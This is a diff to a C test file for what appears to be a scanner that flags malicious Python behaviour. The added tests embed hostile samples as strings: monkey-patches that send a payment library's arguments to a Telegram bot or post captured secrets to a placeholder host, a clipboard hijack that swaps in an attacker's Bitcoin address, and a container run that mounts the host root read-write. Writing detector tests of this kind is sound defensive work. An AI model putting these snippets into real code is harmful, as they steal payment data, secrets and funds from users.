@@ -109,6 +109,30 @@ static void told_by_input(void)
 		    MPY_BEH_DECODE_RUN));
 }
 
+/* A library that tells somebody else what it is given. */
+static void patches(void)
+{
+	CHECK(shows("from pay.client import Pay\nimport urllib.request as u\n"
+		    "init = Pay.__init__\ndef start(*args):\n  init(*args)\n"
+		    "  u.urlopen(f'https://api.telegram.org/bot1:a/sendMessage"
+		    "?text={args[1:]}')\nPay.__init__ = start",
+		    MPY_BEH_PATCH_SEND, 7));
+	CHECK(shows("import shell, requests\nTO = 'http://x.invalid/'\n"
+		    "def tell(code):\n  for k, v in found(code):\n"
+		    "    requests.post(TO, json={k: v})\n"
+		    "def run(self, code):\n  r = old(self, code)\n"
+		    "  tell(code)\n  return r\nshell.Shell.run = run",
+		    MPY_BEH_PATCH_SEND, 10));
+	/* the library's own function sends; events and errors are told */
+	CHECK(lacks("import requests\nold = requests.post\n"
+		    "def post(url, **k):\n  return old(url, timeout=9, **k)\n"
+		    "requests.post = post", MPY_BEH_PATCH_SEND));
+	CHECK(lacks("import sys, requests, mqtt\n"
+		    "def tell(*a):\n  requests.post('http://x.invalid/', a)\n"
+		    "sys.excepthook = tell\nc = mqtt.Client()\n"
+		    "c.on_message = tell", MPY_BEH_PATCH_SEND));
+}
+
 /* Addresses, paths and commands that are encoded, and texts that are not. */
 static void hides_text(void)
 {
@@ -132,6 +156,9 @@ static void hides_text(void)
 		    "  if re.match('[13][a-km-zA-HJ-NP-Z1-9]{33}', t):\n"
 		    "    c.copy(mine)\n  t = c.paste()",
 		    MPY_BEH_WALLET_SWAP, 4));
+	CHECK(shows("import tkinter\nr = tkinter.Tk()\nc = r.clipboard_get()\n"
+		    "if c.startswith('bc1') and c != mine:\n"
+		    "  r.clipboard_append(mine)", MPY_BEH_WALLET_SWAP, 5));
 	CHECK(lacks("import pyperclip as c\nc.copy(c.paste().strip())",
 		    MPY_BEH_WALLET_SWAP));
 	CHECK(lacks("import re\nok = re.match('0x[a-fA-F0-9]{40}', t)",
@@ -142,6 +169,8 @@ static void hides_text(void)
 	CHECK(shows("pod = {'hostPID': True, 'containers': [{\n"
 		    "'securityContext': {'privileged': True}}]}",
 		    MPY_BEH_ESCAPE, 1));
+	CHECK(shows("c.run('a', 'b', volumes={'/': {'bind': '/h', 'mode': 'rw'"
+		    "}})", MPY_BEH_ESCAPE, 1));
 	CHECK(lacks("pod = {'hostPID': False, 'containers': [{\n"
 		    "'securityContext': {'privileged': True}}]}",
 		    MPY_BEH_ESCAPE));
@@ -245,6 +274,7 @@ int main(void)
 {
 	RUN(by_other_means);
 	RUN(told_by_input);
+	RUN(patches);
 	RUN(hides_text);
 	RUN(as_lists);
 	RUN(tries_passwords);
